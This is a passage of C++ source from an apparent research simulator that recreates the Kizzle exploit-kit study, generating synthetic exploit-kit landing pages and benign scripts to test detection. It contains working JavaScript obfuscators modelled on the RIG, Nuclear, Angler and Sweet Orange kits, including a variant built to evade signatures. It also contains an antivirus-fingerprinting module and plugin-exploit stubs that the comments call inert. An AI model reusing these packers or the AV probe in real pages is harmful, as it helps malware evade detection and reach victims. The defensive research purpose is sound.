  auto push = [&](Truth truth, std::string html, bool corruptible) {
    Sample s;
    s.id = make_id();
    s.day = day;
    s.truth = truth;
    if (corruptible && rng_.chance(cfg_.corruption_p)) {
      s.corrupted = true;
      const std::size_t keep =
          html.size() * (40 + rng_.index(50)) / 100;  // keep 40-89%
      html.resize(keep);
    }
    s.html = std::move(html);
    if (truth == Truth::Benign) {
      ++batch.benign_count;
    } else {
      ++batch.malicious_count;
    }
    batch.samples.push_back(std::move(s));
  };

  // ---- Malicious traffic. ----
  auto kit_count = [&](double mean) {
    const double jitter = 0.8 + 0.4 * rng_.real();
    return static_cast<std::size_t>(std::max(0.0, mean * factor * jitter));
  };
  const std::size_t counts[kNumFamilies] = {
      kit_count(cfg_.mean_nuclear), kit_count(cfg_.mean_sweet_orange),
      kit_count(cfg_.mean_angler), kit_count(cfg_.mean_rig)};
  for (std::size_t fi = 0; fi < kNumFamilies; ++fi) {
    KitGenerator& gen = *kits_[fi];
    for (std::size_t i = 0; i < counts[fi]; ++i) {
      push(truth_of(gen.family()), gen.sample_html(rng_), true);
    }
  }

  // ---- Benign families. ----
  const auto n_families = static_cast<std::size_t>(
      (cfg_.min_families_per_day + rng_.index(cfg_.extra_families_per_day + 1)) *
      factor);
  for (std::size_t i = 0; i < n_families; ++i) {
    // Popularity bias: squaring pushes toward low (popular) family ids.
    const double u = rng_.real();
    const auto family_id =
        static_cast<std::size_t>(u * u * static_cast<double>(benign_.pool_size()));
    std::size_t copies;
    if (family_id < 40) {
      copies = 4 + rng_.index(26);
    } else {
      copies = 3 + rng_.index(5);
    }
    const std::string script_html = benign_.family_html(family_id, day, rng_);
    for (std::size_t c = 0; c < copies; ++c) {
      push(Truth::Benign, script_html, false);
    }
  }

  // ---- Engineered benign families (see benign.h). ----
  // Frequencies calibrated against Fig 14: the PluginDetect mislabel is
  // rare (paper: 25 Nuclear FPs over the month), the ad-loader confusion
  // is the larger contributor (paper: 241 RIG FPs, the dominant share).
  auto burst = [&](double p_single, double p_burst) -> std::size_t {
    if (rng_.chance(p_burst)) return 3 + rng_.index(3);
    if (rng_.chance(p_single)) return 1;
    return 0;
  };
  const std::size_t n_pd = burst(0.18, 0.055);
  for (std::size_t i = 0; i < n_pd; ++i) {
    push(Truth::Benign, benign_.plugindetect_html(day, rng_), false);
  }
  const std::size_t n_ad = burst(0.45, 0.11);
  for (std::size_t i = 0; i < n_ad; ++i) {
    push(Truth::Benign, benign_.adloader_html(day, rng_), false);
  }
  const std::size_t n_ed = rng_.index(3);
  for (std::size_t i = 0; i < n_ed; ++i) {
    push(Truth::Benign, benign_.edpacker_html(rng_), false);
  }

  rng_.shuffle(batch.samples);
  return batch;
}

}  // namespace kizzle::kitgen
