#include "kitgen/packers.h"

#include <algorithm>
#include <stdexcept>

#include "support/strings.h"

namespace kizzle::kitgen {

namespace {

// JS string-literal escaping for double-quoted strings.
std::string js_escape(const std::string& s) {
  std::string out;
  out.reserve(s.size() + 8);
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default: out.push_back(c);
    }
  }
  return out;
}

}  // namespace

// ---------------------------------------------------------------- RIG --

std::string pack_rig(const std::string& payload, const RigPackerState& st,
                     Rng& rng) {
  const std::string buf = rng.identifier(3, 7);
  const std::string delim_var = rng.identifier(3, 7);
  const std::string collect = rng.identifier(4, 8);
  const std::string pieces = rng.identifier(3, 7);
  const std::string elem = rng.identifier(4, 8);
  const std::string idx = rng.identifier(1, 2);

  // Char codes joined by the delimiter, one trailing delimiter per code
  // (Fig 4a: "47 y642y6100y6"), chunked into collector calls.
  std::string codes;
  codes.reserve(payload.size() * 4);
  std::vector<std::string> chunks;
  std::size_t in_chunk = 0;
  const std::size_t chunk_codes = 12;
  for (unsigned char c : payload) {
    codes += std::to_string(static_cast<int>(c));
    codes += st.delim;
    if (++in_chunk == chunk_codes) {
      chunks.push_back(codes);
      codes.clear();
      in_chunk = 0;
    }
  }
  if (!codes.empty()) chunks.push_back(codes);

  std::string out;
  out.reserve(payload.size() * 5 + 512);
  out += "var " + buf + "=\"\";\n";
  out += "var " + delim_var + "=\"" + js_escape(st.delim) + "\";\n";
  out += "function " + collect + "(t){" + buf + "+=t;}\n";
  for (const std::string& chunk : chunks) {
    out += collect + "(\"" + chunk + "\");\n";
  }
  out += pieces + "=" + buf + ".split(" + delim_var + ");\n";
  out += elem + "=document.createElement(\"script\");\n";
  out += "for(var " + idx + "=0;" + idx + "<" + pieces + ".length-1;" + idx +
         "++){" + elem + ".text+=String.fromCharCode(" + pieces + "[" + idx +
         "]);}\n";
  out += "document.body.appendChild(" + elem + ");\n";
  return out;
}

std::string rig_analyst_feature(const RigPackerState& st) {
  // In AV-normalized text (quotes and whitespace stripped), the delimiter
  // declaration plus the collector keyword reads: =<delim>;function
  return "=" + st.delim + ";function";
}

namespace {

// One superfluous statement, randomized per call so that no two samples
// share junk token runs.
std::string junk_statement(Rng& rng) {
  switch (rng.index(5)) {
    case 0:
      return "var " + rng.identifier(3, 8) + "=" +
             std::to_string(rng.uniform(1, 9999)) + ";";
    case 1:
      return rng.identifier(3, 8) + "=\"" +
             rng.string_over("abcdefghijklmnop0123456789", 4 + rng.index(9)) +
             "\";";
    case 2: {
      const std::string v = rng.identifier(3, 7);
      return "var " + v + "=" + std::to_string(rng.uniform(2, 99)) + "*" +
             std::to_string(rng.uniform(2, 99)) + ";";
    }
    case 3: {
      const std::string v = rng.identifier(3, 7);
      return "if(typeof " + v + "==\"undefined\"){var " + v + "=" +
             std::to_string(rng.uniform(0, 1)) + ";}";
    }
    default: {
      const std::string f = rng.identifier(4, 8);
      return "function " + f + "(){return " +
             std::to_string(rng.uniform(1, 999)) + "}";
    }
  }
}

}  // namespace

std::string pack_rig_adversarial(const std::string& payload,
                                 const RigPackerState& st,
                                 double junk_density, Rng& rng) {
  const std::string buf = rng.identifier(3, 7);
  const std::string delim_var = rng.identifier(3, 7);
  const std::string collect = rng.identifier(4, 8);
  const std::string pieces = rng.identifier(3, 7);
  const std::string elem = rng.identifier(4, 8);
  const std::string idx = rng.identifier(1, 2);

  std::string out;
  out.reserve(payload.size() * 5 + 2048);
  auto junk = [&] {
    const std::size_t n = 1 + rng.index(2);
    for (std::size_t i = 0; i < n; ++i) {
      if (rng.chance(junk_density)) out += junk_statement(rng) + "\n";
    }
  };

  junk();
  out += "var " + buf + "=\"\";\n";
  junk();
  out += "var " + delim_var + "=\"" + js_escape(st.delim) + "\";\n";
  junk();
  // Junk inside the collector body breaks the run through the function.
  out += "function " + collect + "(t){";
  if (rng.chance(junk_density)) out += junk_statement(rng);
  out += buf + "+=t;}\n";
  junk();

  std::string codes;
  std::size_t in_chunk = 0;
  const std::size_t chunk_codes = 12;
  for (unsigned char c : payload) {
    codes += std::to_string(static_cast<int>(c));
    codes += st.delim;
    if (++in_chunk == chunk_codes) {
      out += collect + "(\"" + codes + "\");\n";
      if (rng.chance(junk_density * 0.25)) out += junk_statement(rng) + "\n";
      codes.clear();
      in_chunk = 0;
    }
  }
  if (!codes.empty()) out += collect + "(\"" + codes + "\");\n";

  junk();
  out += pieces + "=" + buf + ".split(" + delim_var + ");\n";
  junk();
  out += elem + "=document.createElement(\"script\");\n";
  junk();
  // Junk at the head of the loop body breaks the run through the loop.
  out += "for(var " + idx + "=0;" + idx + "<" + pieces + ".length-1;" + idx +
         "++){";
  if (rng.chance(junk_density)) out += junk_statement(rng);
  out += elem + ".text+=String.fromCharCode(" + pieces + "[" + idx + "]);}\n";
  junk();
  out += "document.body.appendChild(" + elem + ");\n";
  return out;
}

// ------------------------------------------------------------ Nuclear --

std::string nuclear_obfuscate(const std::string& word,
                              const NuclearPackerState& st) {
  if (st.mode == ObfuscationMode::InsertOnce) {
    // insert after the first half: "ev" + strip + "al"
    const std::size_t half = word.size() / 2;
    return word.substr(0, half) + st.strip + word.substr(half);
  }
  std::string out;
  for (char c : word) {
    out.push_back(c);
    out += st.strip;
  }
  return out;
}

std::string pack_nuclear(const std::string& payload,
                         const NuclearPackerState& st, Rng& rng) {
  // Per-response key: a shuffled alphabet covering every payload byte we
  // can emit (tab, newline, CR, printable ASCII). 98 symbols, so indices
  // fit in two decimal digits.
  std::string alphabet = "\t\n\r";
  for (char c = ' '; c <= '~'; ++c) alphabet.push_back(c);
  std::vector<char> key_chars(alphabet.begin(), alphabet.end());
  // Fisher-Yates via Rng
  for (std::size_t i = key_chars.size() - 1; i > 0; --i) {
    std::swap(key_chars[i], key_chars[rng.index(i + 1)]);
  }
  const std::string key(key_chars.begin(), key_chars.end());

  if (st.radix != 10 && st.radix != 16) {
    throw std::invalid_argument("pack_nuclear: radix must be 10 or 16");
  }
  static constexpr char kHexDigits[] = "0123456789abcdef";
  std::string digits;
  digits.reserve(payload.size() * 2);
  for (char c : payload) {
    const std::size_t pos = key.find(c);
    if (pos == std::string::npos) {
      throw std::logic_error("pack_nuclear: payload byte outside alphabet");
    }
    if (st.radix == 10) {
      if (pos < 10) digits.push_back('0');
      digits += std::to_string(pos);
    } else {
      digits.push_back(kHexDigits[pos >> 4]);
      digits.push_back(kHexDigits[pos & 0xF]);
    }
  }

  const std::string pvar = rng.identifier(3, 7);
  const std::string kvar = rng.identifier(3, 7);
  const std::string getter = rng.identifier(4, 8);
  const std::string self = rng.identifier(4, 8);
  const std::string bgc = rng.identifier(3, 6);
  const std::string evl = rng.identifier(3, 6);
  const std::string win = rng.identifier(3, 6);
  const std::string outv = rng.identifier(3, 6);
  const std::string idx = rng.identifier(1, 2);

  const std::string eval_obf = nuclear_obfuscate("eval", st);
  const std::string window_obf = nuclear_obfuscate("window", st);

  std::string out;
  out.reserve(payload.size() * 3 + 1024);
  out += "var " + pvar + "=\"" + digits + "\";\n";
  out += "var " + kvar + "=\"" + js_escape(key) + "\";\n";
  out += getter + "=function(a){return a;};\n";
  out += self + "=this;\n";
  out += bgc + "=" + getter + "(\"" + js_escape(st.strip) + "\");\n";
  out += evl + "=" + getter + "(\"" + eval_obf + "\");\n";
  out += win + "=" + getter + "(\"" + window_obf + "\");\n";
  out += "var " + outv + "=\"\";\n";
  out += "for(var " + idx + "=0;" + idx + "<" + pvar + ".length;" + idx +
         "+=2){" + outv + "+=" + kvar + ".charAt(parseInt(" + pvar +
         ".substr(" + idx + ",2)," + std::to_string(st.radix) + "));}\n";
  out += self + "[" + win + ".split(" + bgc + ").join(\"\")][" + evl +
         ".split(" + bgc + ").join(\"\")](" + outv + ");\n";
  return out;
}

std::string nuclear_analyst_feature(const NuclearPackerState& st) {
  // The obfuscated-eval string in normalized text, with the call
  // parenthesis as anchor: "(ev#FFFFFFal)".
  return "(" + nuclear_obfuscate("eval", st) + ")";
}

// ------------------------------------------------------------- Angler --

std::string pack_angler(const std::string& payload,
                        const AnglerPackerState& st, Rng& rng) {
  const std::string arr = rng.identifier(3, 7);
  const std::string shift = rng.identifier(3, 6);
  const std::string acc = rng.identifier(3, 6);
  const std::string idx = rng.identifier(1, 2);
  const std::string wnd = rng.identifier(3, 6);

  std::string out;
  out.reserve(payload.size() * 5 + 512);
  out += "var " + arr + "=[";
  for (std::size_t i = 0; i < payload.size(); ++i) {
    if (i) out.push_back(',');
    out += std::to_string(static_cast<int>(static_cast<unsigned char>(
                              payload[i])) +
                          st.offset);
  }
  out += "];\n";
  out += "var " + shift + "=" + std::to_string(st.offset) + ";\n";
  out += "var " + acc + "=\"\";\n";
  out += "for(var " + idx + "=0;" + idx + "<" + arr + ".length;" + idx +
         "++){" + acc + "+=String.fromCharCode(" + arr + "[" + idx + "]-" +
         shift + ");}\n";
  out += "var " + wnd + "=window;\n";
  out += wnd + "[";
  for (std::size_t i = 0; i < st.eval_parts.size(); ++i) {
    if (i) out.push_back('+');
    out += "\"" + st.eval_parts[i] + "\"";
  }
  out += "](" + acc + ");\n";
  return out;
}

std::string angler_analyst_feature(const AnglerPackerState& st) {
  // Normalized trigger: [e+v+a+l]( — the version's split pattern.
  std::string out = "[";
  for (std::size_t i = 0; i < st.eval_parts.size(); ++i) {
    if (i) out.push_back('+');
    out += st.eval_parts[i];
  }
  out += "](";
  return out;
}

// ------------------------------------------------------- Sweet Orange --

std::string pack_sweet_orange(const std::string& payload,
                              const SweetOrangePackerState& st, Rng& rng) {
  if (st.positions.size() != st.key.size()) {
    throw std::invalid_argument(
        "pack_sweet_orange: key/positions size mismatch");
  }
  static constexpr std::string_view kJunkAlphabet =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";

  // Junk strings with key characters planted at the secret positions.
  std::vector<std::string> junk_vars;
  std::vector<std::string> junk;
  for (std::size_t i = 0; i < st.key.size(); ++i) {
    const int pos = st.positions[i];
    if (pos < 0) throw std::invalid_argument("pack_sweet_orange: bad pos");
    const std::size_t len = static_cast<std::size_t>(pos) + 1 +
                            rng.index(static_cast<std::size_t>(st.junk_extra) + 1);
    std::string j = rng.string_over(kJunkAlphabet, len);
    j[static_cast<std::size_t>(pos)] = st.key[i];
    junk.push_back(std::move(j));
    junk_vars.push_back(rng.identifier(3, 6));
  }

  // Hex payload, XORed with the cycling key.
  static constexpr char kHex[] = "0123456789abcdef";
  std::string hex;
  hex.reserve(payload.size() * 2);
  for (std::size_t i = 0; i < payload.size(); ++i) {
    const unsigned char b =
        static_cast<unsigned char>(payload[i]) ^
        static_cast<unsigned char>(st.key[i % st.key.size()]);
    hex.push_back(kHex[b >> 4]);
    hex.push_back(kHex[b & 0xF]);
  }

  const std::string keyfun = rng.identifier(4, 8);
  const std::string hexvar = rng.identifier(3, 6);
  const std::string keyvar = rng.identifier(3, 6);
  const std::string outvar = rng.identifier(3, 6);
  const std::string idx = rng.identifier(1, 2);

  std::string out;
  out.reserve(payload.size() * 3 + 1024);
  for (std::size_t i = 0; i < junk.size(); ++i) {
    out += "var " + junk_vars[i] + "=\"" + junk[i] + "\";\n";
  }
  out += "function " + keyfun + "(){var ok=[";
  for (std::size_t i = 0; i < junk.size(); ++i) {
    if (i) out.push_back(',');
    const int pos = st.positions[i];
    out += junk_vars[i] + ".charAt(Math.sqrt(" + std::to_string(pos * pos) +
           "))";
  }
  out += "];return ok.join(\"\");}\n";
  out += "var " + hexvar + "=\"" + hex + "\";\n";
  out += "var " + keyvar + "=" + keyfun + "();\n";
  out += "var " + outvar + "=\"\";\n";
  out += "for(var " + idx + "=0;" + idx + "<" + hexvar + ".length;" + idx +
         "+=2){" + outvar + "+=String.fromCharCode(parseInt(" + hexvar +
         ".substr(" + idx + ",2),16)^" + keyvar + ".charCodeAt((" + idx +
         "/2)%" + keyvar + ".length));}\n";
  // Sweet Orange fires the decoded payload through a Function constructor
  // (not the bracket-eval idiom, which Angler uses).
  const std::string fn = rng.identifier(3, 6);
  out += "var " + fn + "=new Function(" + outvar + ");" + fn + "();\n";
  return out;
}

std::string sweet_orange_analyst_feature(const SweetOrangePackerState& st) {
  const int p0 = st.positions.at(0);
  return ".charAt(Math.sqrt(" + std::to_string(p0 * p0) + "))";
}

}  // namespace kizzle::kitgen
