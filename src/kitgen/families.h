// Per-family sample generators: the glue between the evolution timeline,
// the payload builder and the packers.
//
// Each generator owns the family's current (and previous) version state and
// advances day by day. The mutation model follows §II.B of the paper:
//
//   - packer changes are frequent and superficial (new delimiter, new
//     obfuscated-eval form, new split pattern) and roll out over a few
//     days (adoption ramp) — newly-updated landing servers serve the new
//     version while stragglers keep serving the old one;
//   - payload changes are rare appends (a CVE, the AV-check module) and
//     apply immediately (server-side code);
//   - a small per-sample "minor variant" probability randomizes the
//     version's distinctive feature, which evades literal AV signatures
//     while leaving the abstract token structure — and therefore Kizzle's
//     clusters and structural signatures — intact. This is the asymmetry
//     the paper's Fig 1 describes.
//
// The generator also exposes what the two detection sides consume:
//   unpacked_payload()  → seeds/labeled corpus for Kizzle's winnowing
//   analyst_feature()   → the literal a human AV analyst would write a
//                         signature on (see av/), for the *current* version
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "kitgen/kit.h"
#include "kitgen/packers.h"
#include "kitgen/payload.h"
#include "kitgen/timeline.h"
#include "support/rng.h"

namespace kizzle::kitgen {

class KitGenerator {
 public:
  virtual ~KitGenerator() = default;

  KitFamily family() const { return family_; }
  int version_id() const { return version_id_; }
  int current_day() const { return day_; }

  // Advances to `day` (must be called with non-decreasing days), applying
  // scheduled events and daily churn.
  void begin_day(int day);

  // One landing-page sample (full HTML document).
  virtual std::string sample_html(Rng& rng) = 0;

  // The current version's unpacked payload (today's URLs).
  virtual std::string unpacked_payload() const = 0;

  // The literal feature of the current version an analyst would sign.
  virtual std::string analyst_feature() const = 0;

 protected:
  KitGenerator(KitFamily f, std::uint64_t seed);

  virtual void apply_event(const KitEvent& e) = 0;
  virtual void new_day() {}

  // Adoption decision for one sample: true = serve the new version.
  // Ramp: 35% on the transition day, 70% the next day, 100% after —
  // capped by adoption_cap_ (Angler's 8/13 change plateaus mid-rollout,
  // which is what keeps the Fig 6 AV false-negative window near 50%).
  bool use_new_version(Rng& rng) const;
  double fraction_new() const;

  KitFamily family_;
  Rng rng_;  // generator-internal churn randomness (deterministic)
  int day_ = kAug1 - 1;
  int version_id_ = 0;
  int transition_day_ = -1000;
  double adoption_cap_ = 1.0;
  double minor_variant_p_ = 0.05;
};

std::unique_ptr<KitGenerator> make_kit_generator(KitFamily f,
                                                 std::uint64_t seed);

// A plausible landing URL, e.g. "http://ad7k2.example-cdn.biz/gate".
std::string make_landing_url(Rng& rng);

// Wraps script text (and optional extra body HTML) into a full document.
std::string wrap_html(const std::string& extra_body_html,
                      const std::string& script_text, Rng& rng);

}  // namespace kizzle::kitgen
