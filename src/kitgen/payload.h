// Inner-kit payload assembly (the slowly-changing core of the "onion").
//
// A kit's unpacked payload is composed from a component library:
//   - a plugin/version detector (Nuclear's is derived from the public
//     PluginDetect library, which is what makes the Fig 15 benign
//     false positive possible);
//   - the AV-detection module — one canonical text shared verbatim by
//     RIG, Angler and (from 7/29) Nuclear, reproducing the cross-kit
//     code borrowing the paper documents in §II.B;
//   - one inert exploit stub per CVE (Fig 2), shaped like the real thing
//     (object/applet/vml injection, spray loops) but functionally dead;
//   - landing URLs, the fast-churning part (drives Fig 11d for RIG);
//   - an eval/execution trigger.
//
// Identifiers inside a payload are fixed per family: the inner core is
// deliberately stable across samples and days, exactly the code-reuse
// property Kizzle exploits.
#pragma once

#include <string>
#include <vector>

#include "kitgen/kit.h"

namespace kizzle::kitgen {

struct PayloadSpec {
  KitFamily family;
  std::vector<CveEntry> cves;
  bool av_check = false;
  std::vector<std::string> urls;       // landing URLs used by the stubs
  bool embed_java_marker = false;      // Angler >= 8/13: marker in payload
  std::string java_marker;             // the distinctive Java-exploit string

  // RIG only: full per-day exploit-gate URLs (with campaign tokens). RIG's
  // unpacked body is short and these URLs are roughly half of it — the
  // paper's explanation for Fig 11(d): "these URLs alone represent a
  // significant enough part of the code to create a 50% churn". When
  // empty, a deterministic set is derived from `urls`.
  std::vector<std::string> gate_urls;

  // Sweet Orange only: rotating redirector entries (url + token), a
  // moderate share of the body — the Fig 11(b) 50-95% band. Empty: none.
  std::vector<std::string> redirect_chain;
};

// The full unpacked payload text for a spec. Deterministic: same spec,
// same text.
std::string payload_text(const PayloadSpec& spec);

// The plugin-detector core shared between Nuclear's payload and the
// benign PluginDetect library (the Fig 15 overlap).
std::string plugin_detector_core_text();

// The canonical AV-detection module (shared across kits, §II.B "code
// borrowing").
std::string av_check_text();

// The benign PluginDetect library: detector core plus public API surface.
// `minor_version` perturbs the non-shared tail slightly (library releases).
std::string plugindetect_library_text(int minor_version);

// One inert exploit stub (exposed for tests).
std::string exploit_stub_text(KitFamily family, const CveEntry& cve,
                              const std::string& url);

// The compact plugin prober used by the non-Nuclear kits, parameterized by
// identifier prefix. Exposed because the benign ad-loader family (see
// benign.h) legitimately embeds the same public snippet — the code overlap
// that occasionally confuses RIG labeling (paper Fig 14: RIG is Kizzle's
// weakest kit).
std::string compact_detector_text(const std::string& prefix);

}  // namespace kizzle::kitgen
