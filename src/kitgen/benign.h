// The benign side of the grayware stream.
//
// The paper's telemetry captured pages performing "potentially suspicious"
// operations (ActiveX loads), so the stream is mostly benign code falling
// into "a relatively small number of frequently observed clusters"
// (280-1,200 clusters/day, §IV). We model that with:
//
//   - a pool of deterministic benign script families (library snippets,
//     ad/analytics tags, site code) generated from a small JS grammar;
//     each family's body is stable day over day (with slow version
//     drift), so families dedup into single weighted points;
//   - three engineered families reproducing specific paper phenomena:
//       PluginDetect  the public plugin-detection library whose core is
//                     also inside Nuclear's payload; its clusters winnow-
//                     overlap Nuclear ~79% and become Kizzle's Nuclear
//                     false positives (Fig 15, Fig 14);
//       AdLoader      an ad-delivery loader embedding the same public
//                     plugin-prober snippet RIG uses, occasionally crossing
//                     RIG's (low) labeling threshold — Kizzle's RIG false
//                     positives (Fig 14);
//       EdPacker      a legitimate JS-packer output whose bracket-eval
//                     trigger collides with the generic manual Angler
//                     signature — the AV baseline's false positives
//                     (Fig 14: AV FP is dominated by Angler).
#pragma once

#include <cstdint>
#include <string>

#include "support/rng.h"

namespace kizzle::kitgen {

class BenignCorpus {
 public:
  explicit BenignCorpus(std::uint64_t seed, std::size_t pool_size = 1500);

  std::size_t pool_size() const { return pool_size_; }

  // Body script of benign family `family_id` on `day`. Deterministic;
  // drifts to a new minor version every ~2-3 weeks (family-dependent).
  std::string family_script(std::size_t family_id, int day) const;

  // Full HTML documents. `rng` randomizes only presentation noise (title),
  // never the script body.
  std::string family_html(std::size_t family_id, int day, Rng& rng) const;
  std::string plugindetect_html(int day, Rng& rng) const;
  std::string adloader_html(int day, Rng& rng) const;
  std::string edpacker_html(Rng& rng) const;

  // Script bodies of the engineered families (exposed for tests and the
  // Fig 15 anatomy bench).
  std::string plugindetect_script(int day) const;
  std::string adloader_script(int day) const;

 private:
  std::uint64_t seed_;
  std::size_t pool_size_;
};

}  // namespace kizzle::kitgen
