#include "kitgen/payload.h"

#include <stdexcept>

#include "support/strings.h"

namespace kizzle::kitgen {

namespace {

// Short family prefix used for payload-internal identifiers.
std::string fam_prefix(KitFamily f) {
  switch (f) {
    case KitFamily::Nuclear: return "nk";
    case KitFamily::SweetOrange: return "so";
    case KitFamily::Angler: return "ang";
    case KitFamily::Rig: return "rg";
  }
  return "xx";
}

std::string cve_ident(const CveEntry& cve) {
  std::string out;
  for (char c : cve.cve) {
    if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'z') ||
        (c >= 'A' && c <= 'Z')) {
      out.push_back(c);
    } else if (c == '-') {
      out.push_back('_');
    }
  }
  if (out.empty()) out = "unk";
  return out;
}

}  // namespace

std::string plugin_detector_core_text() {
  // Modeled on the public PluginDetect library; Fig 15 of the paper shows
  // this exact style of utility code as the source of a Kizzle false
  // positive (79% overlap with Nuclear's unpacked payload).
  return R"JS(
var PDCore={version:"0.8.1",
rgx:{str:/string/i,num:/number/i,fun:/function/i,arr:/array/i,any:/Boolean|String|Number|Function|Array|Date|RegExp|Error/},
toString:({}).constructor.prototype.toString,
hasOwn:function(c,b){try{return({}).constructor.prototype.hasOwnProperty.call(c,b)}catch(e){return 0}},
isPlainObject:function(c){var a=this,b;if(!c||a.rgx.any.test(a.toString.call(c))||c.window==c||a.rgx.num.test(a.toString.call(c.nodeType))){return 0}
try{if(!a.hasOwn(c,"constructor")&&!a.hasOwn(c.constructor.prototype,"isPrototypeOf")){return 0}}catch(b){return 0}return 1},
isDefined:function(b){return typeof b!="undefined"},
isArray:function(b){return this.rgx.arr.test(this.toString.call(b))},
isString:function(b){return this.rgx.str.test(this.toString.call(b))},
isNum:function(b){return this.rgx.num.test(this.toString.call(b))},
isFunc:function(b){return this.rgx.fun.test(this.toString.call(b))},
getNumRegx:/[\d][\d\.\_,-]*/,
splitNumRegx:/[\.\_,-]/g,
getNum:function(b,c){var d=this,a=d.isStrNum(b)?(d.isDefined(c)?new RegExp(c):d.getNumRegx).exec(b):null;return a?a[0]:null},
isStrNum:function(b){return(typeof b=="string"&&(/\d/).test(b))},
compareNums:function(f,d,e){var c=this,b,a,g,h=parseInt;if(c.isStrNum(f)&&c.isStrNum(d)){if(c.isDefined(e)&&e.compareNums){return e.compareNums(f,d)}
b=f.split(c.splitNumRegx);a=d.split(c.splitNumRegx);for(g=0;g<Math.min(b.length,a.length);g++){if(h(b[g],10)>h(a[g],10)){return 1}if(h(b[g],10)<h(a[g],10)){return -1}}}return 0},
formatNum:function(b,c){var d=this,a,e;if(!d.isStrNum(b)){return null}if(!d.isNum(c)){c=4}c--;e=b.replace(/\s/g,"").split(d.splitNumRegx).concat(["0","0","0","0"]);for(a=0;a<4;a++){if(/^(0+)(.+)$/.test(e[a])){e[a]=RegExp.$2}if(a>c||!(/\d/).test(e[a])){e[a]="0"}}return e.slice(0,4).join(",")},
getMimeEnabledPlugin:function(f,d){var c=this,a,b=new RegExp(d,"i");f=c.isArray(f)?f:[f];for(a=0;a<f.length;a++){try{if(navigator.mimeTypes[f[a]]&&navigator.mimeTypes[f[a]].enabledPlugin&&b.test(navigator.mimeTypes[f[a]].enabledPlugin.name)){return navigator.mimeTypes[f[a]].enabledPlugin}}catch(e){}}return 0},
getPluginNamed:function(d){var c=this,b,a=new RegExp(d,"i");try{for(b=0;b<navigator.plugins.length;b++){if(a.test(navigator.plugins[b].name)){return navigator.plugins[b]}}}catch(e){}return 0},
getFlashVer:function(){var c=this,b,a;b=c.getMimeEnabledPlugin("application/x-shockwave-flash","Flash");if(b){a=c.getNum(b.description)}else{try{var d=new ActiveXObject("ShockwaveFlash.ShockwaveFlash");a=c.getNum(d.GetVariable("$version").replace(/,/g,"."))}catch(e){a=null}}return c.formatNum(a)},
getSilverlightVer:function(){var c=this,a=null;try{var b=new ActiveXObject("AgControl.AgControl");var d=["5,1,50906","5,1,50901","5,0,61118","4,0,60310"];for(var f=0;f<d.length;f++){if(b.IsVersionSupported(d[f].replace(/,/g,"."))){a=d[f];break}}}catch(e){var g=c.getMimeEnabledPlugin("application/x-silverlight-2","Silverlight");if(g){a=c.getNum(g.description)}}return c.formatNum(a)},
getJavaVer:function(){var c=this,a=null,b;b=c.getMimeEnabledPlugin(["application/x-java-applet","application/x-java-vm"],"Java");if(b){a=c.getNum(b.description)}
if(!a){try{var d=new ActiveXObject("JavaWebStart.isInstalled");a="1,6,0,0"}catch(e){}}return c.formatNum(a)},
getReaderVer:function(){var c=this,a=null;try{var b=new ActiveXObject("AcroPDF.PDF");a=c.getNum(b.GetVersions().split(",")[0])}catch(e){var d=c.getPluginNamed("Adobe Reader|Adobe PDF");if(d){a=c.getNum(d.description)}}return c.formatNum(a)},
getIEVer:function(){var b=null;if(/MSIE ([\d\.]+)/.test(navigator.userAgent)){b=RegExp.$1}return b}
};
)JS";
}

std::string av_check_text() {
  // The canonical AV-detection module. One fixed text, used verbatim by
  // every kit whose spec enables it — the paper observed the exact same
  // code in RIG (from May), then Angler and Nuclear (from August),
  // apparently copied between rival kits (§II.B "code borrowing").
  return R"JS(
function avscan_rk(){var hit=0;
var drv=["c:\\windows\\system32\\drivers\\kl1.sys","c:\\windows\\system32\\drivers\\tmactmon.sys","c:\\windows\\system32\\drivers\\avc3.sys","c:\\windows\\system32\\drivers\\bdfsfltr.sys","c:\\windows\\system32\\drivers\\avgtpx86.sys"];
for(var av_i=0;av_i<drv.length;av_i++){try{var avx=new ActiveXObject("Microsoft.XMLHTTP");avx.open("GET","res://"+drv[av_i],false);avx.send();hit=1}catch(averr){}}
try{if(window.external&&window.external.msIsSiteMode&&document.documentElement.style.behavior!==void 0){var kres=0}}catch(kerr){}
return hit}
)JS";
}

std::string exploit_stub_text(KitFamily family, const CveEntry& cve,
                              const std::string& url) {
  const std::string p = fam_prefix(family);
  const std::string id = cve_ident(cve);
  std::string body;
  switch (cve.target) {
    case PluginTarget::Flash:
      body = R"JS(
function @P@_fl_@ID@(){if(PDVER.flash&&PDCore.compareNums(PDVER.flash,"13,0,0,206")<=0){
var fo=document.createElement("object");fo.setAttribute("classid","clsid:d27cdb6e-ae6d-11cf-96b8-444553540000");fo.width=10;fo.height=10;
var fp=document.createElement("param");fp.name="movie";fp.value="@URL@/media/fl_@ID@.swf";fo.appendChild(fp);
var fv=document.createElement("param");fv.name="FlashVars";fv.value="exec=1&id=@ID@";fo.appendChild(fv);
document.body.appendChild(fo)}}
)JS";
      break;
    case PluginTarget::Silverlight:
      body = R"JS(
function @P@_sl_@ID@(){if(PDVER.silverlight&&PDCore.compareNums(PDVER.silverlight,"5,1,20125")<=0){
var so=document.createElement("object");so.setAttribute("data","data:application/x-silverlight-2,");so.setAttribute("type","application/x-silverlight-2");
var sp=document.createElement("param");sp.name="source";sp.value="@URL@/media/sl_@ID@.xap";so.appendChild(sp);
var si=document.createElement("param");si.name="initParams";si.value="payload=@ID@,shell32=1";so.appendChild(si);
document.body.appendChild(so)}}
)JS";
      break;
    case PluginTarget::Java:
      body = R"JS(
function @P@_jv_@ID@(){if(PDVER.java){
var ja=document.createElement("applet");ja.setAttribute("code","inc.Starter.class");ja.setAttribute("archive","@URL@/media/jv_@ID@.jar");
var jp=document.createElement("param");jp.name="data";jp.value="@URL@/load.php?e=@ID@";ja.appendChild(jp);
document.body.appendChild(ja)}}
)JS";
      break;
    case PluginTarget::AdobeReader:
      body = R"JS(
function @P@_pdf_@ID@(){if(PDVER.reader&&PDCore.compareNums(PDVER.reader,"9,3,0,0")<=0){
var pf=document.createElement("iframe");pf.width=1;pf.height=1;pf.style.border="0px";pf.src="@URL@/media/doc_@ID@.pdf";
document.body.appendChild(pf)}}
)JS";
      break;
